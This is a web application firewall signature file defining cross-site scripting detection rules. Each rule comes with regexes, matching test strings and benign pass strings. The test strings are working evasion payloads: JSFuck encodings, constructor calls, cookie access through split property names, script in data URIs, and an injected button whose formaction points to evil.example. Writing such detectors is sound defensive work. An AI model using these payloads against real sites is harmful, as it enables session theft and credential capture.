# Cross-site scripting, script without the usual words (ids 300002100-300002199): JSFuck and
# other bracket-and-bang encodings, calls through tagged templates and Reflect, property names
# built from regular-expression sources, the global object reached through brackets, DOM
# writes, tag names split by spaces or namespaced (VML), event handlers after a bare `<`,
# data URIs carrying markup, entity declarations outside markup.
# Format: see src/waf/signatures/db.rs. Pass examples are drawn from real traffic.

id: 300002100
name: XSS: JSFuck and other encodings made of brackets, bangs and pluses
type: Cross Site Scripting (XSS)
accuracy: high
risk: high
targets: @values, header, url, param-name
unless: binary
literal: []
literal: !![]
literal: +[]
literal: {}
regex: (?:[\[\]()!+{}]\s*){24,}|\(\s*\+\s*\{\s*\}\s*\+\s*\[\s*\]\s*\)|!!\s*\[\s*\]\s*\+|\[\s*\]\s*\[\s*['"]\w+['"]\s*\]
test: frames[(+{}+[])[+!![]]+(![]+[])[!+[]+!![]]+([][[]]+[])[!+[]+!![]]]
test: []['filter']['constructor']('alert(1)')()
pass: [1, 2, 3] + [4]
pass: {"a":[],"b":{}}

id: 300002101
name: XSS: call through a tagged template, Reflect or a property name built from strings
type: Cross Site Scripting (XSS)
accuracy: high
risk: high
targets: @values, header, url, param-name
unless: binary
literal: `
literal: reflect
literal: .source
literal: +
regex: \[\s*['"`][\w$]*['"`]\s*\+\s*['"`][\w$]*['"`](?:\s*\+\s*['"`][\w$]*['"`])*\s*\]\s*[(\[`]|\.\s*(?:/\*.*?\*/\s*)?(?:call|apply|bind)\s*`|\breflect\s*\.\s*(?:apply|construct|get|set|defineproperty|call|sort)\b|/[\w$]+/\s*\.\s*source\s*\+|\b(?:alert|prompt|confirm|eval|print|fetch|import|settimeout)\s*`
test: [].sort.call`${alert}1337`
test: [  ] . sort . call ` ${ alert } 1337 `
test: Reflect.apply.call`${navigation.navigate}${navigation}${[name]}`
test: top[/al/.source+/ert/.source](/XSS/.source)
test: alert`1`
test: this['ale'+'rt'](1)
test: top["con"+"firm"]`x`
test: self['doc'+'ument']['coo'+'kie']
pass: {"q":["a"+"b"]}
pass: items['first' + 'second'] = 3
pass: call `npm run build` first
pass: Reflections on the source

id: 300002102
name: XSS: global object or document reached through brackets or parentheses
type: Cross Site Scripting (XSS)
accuracy: high
risk: high
targets: @values, header, url, param-name
unless: binary
literal: document
literal: window
literal: this
literal: self
literal: top
literal: parent
literal: frames
literal: globalthis
regex: \(\s*(?:document|window|self|top|parent|frames|globalthis|this)\s*(?:/\*.*?\*/\s*)?\)\s*\[|\b(?:this|self|top|parent|frames|window|globalthis)\s*\[\s*['"`]\s*(?:eval|alert|prompt|confirm|atob|settimeout|setinterval|function|constructor|location|document|fetch|import|open)\s*['"`]\s*\]|\bdocument\s*\.\s*\w+\s*(?:\([^)]*\))?\s*\.\s*(?:textcontent|innerhtml|outerhtml|innertext|src|href|action)\s*=
test: (document)["cookie"]
test: (document/*foo*/)["cookie"]
test: this['eval']('this["alert"](atob("WFNT"))');//
test: document.querySelector("p").textContent="XSS"
pass: function(){try{e(document.querySelector("div[".concat(Yg,"]")))}catch(e){}}
pass: (see the window) [1]

id: 300002103
name: XSS: tag name split by spaces, namespaced or event handler after a bare <
type: Cross Site Scripting (XSS)
accuracy: high
risk: high
targets: @values, header, url, param-name
unless: binary
literal: <
regex: <\s*(?:[a-z]\s+){2,}[a-z]\b|<\s*\w*\s*:\s*(?:script|vmlframe|iframe|x)\b|<\s*["'`/]\s*on[a-z]{3,}\s*=|\bvmlframe\b|<\s*v\s*:\s*\w+[^>]*\bsrc\s*=
test: $<f o r m
test: < x: script
test: <"onwebkitplaybacktargetavailabilitychanged=
test: <v:vmlframe src="foo.com/sup.fml"/>
test: <:vmlframe src=
pass: if a < b and c > d
pass: <br /> <p>text</p>
pass: <svg:svg xmlns:svg="http://www.w3.org/2000/svg"><svg:defs>

id: 300002104
name: XSS: data URI carrying markup, entity declaration outside markup
type: Cross Site Scripting (XSS)
accuracy: high
risk: high
targets: @values, header, url, param-name
unless: binary
literal: data
literal: entity
regex: \bdata\s*:\s*[^,\s]{0,60}\s*,\s*<\s*[a-z!/]|!entity\s+%?\s*[\w.-]+\s+(?:system|public)\b
test: data: , <x>
test: data:text/html,<script>alert(1)</script>
test: foo!ENTITY % bar SYSTEM
pass: data: 2023-01-01, <2 items>

id: 300002701
name: XSS: JSFuck fragments, booleans and strings made from empty arrays
# JSFuck writes every character from `![]` (false), `!![]` or `!+[]` (true), `+[]` (0) and
# `[]+[]` (an empty string), and indexes the strings they give (`(![]+[])[+[]]` is `f`).
# Short probes send those fragments alone; a Markdown image (`![](url)`) is none of them.
type: Cross Site Scripting (XSS)
accuracy: high
risk: high
targets: @values, header, url, param-name
unless: binary
literal: []
regex: !\s*[!+]\s*\[\s*\]|\(\s*!\s*\[\s*\]\s*\+\s*\[\s*\]\s*\)|\[\s*\]\s*\+\s*\[\s*\]|\[\s*\+\s*!?\s*\[\s*\]\s*\]
test: !![]
test: !+[]
test: (![]+[])[+[]]
test: []+[]
pass: test~~~\n\n![](https://ctstack-oss.oss-cn-beijing.aliyuncs.com/challenge/7
pass: {"a":[],"b":{}}
pass: [1, 2, 3] + [4]

id: 300002702
name: HTML injection: a form control injected with its attributes
# A form control placed in a page by an attacker submits what the user types or what the
# browser fills in (a password field, a hidden `role` field, a button with `formaction`), with
# no script; an attribute (`pattern`, `name`, `type`, `value`, ...) or a closed tag shows it is
# markup and not a word after `<`.
type: Cross Site Scripting (XSS)
accuracy: high
risk: high
targets: @values, header, param-name
unless: binary
literal: <
regex: <\s*(?:input|button|textarea|select|output|datalist)\b[^<>]{0,200}?[\s/"'](?:name|type|value|pattern|formaction|formmethod|formtarget|form|autofocus|autocomplete|placeholder|list|required|hidden|checked)\b
test: <input pattern="^a regex$">
test: <input type="hidden" name="role" value="admin">
test: "><button formaction="https://evil.example/">Login</button>
test: <textarea name=comment>
pass: <INPUT
pass: <BUTTON
pass: a<input and output>b
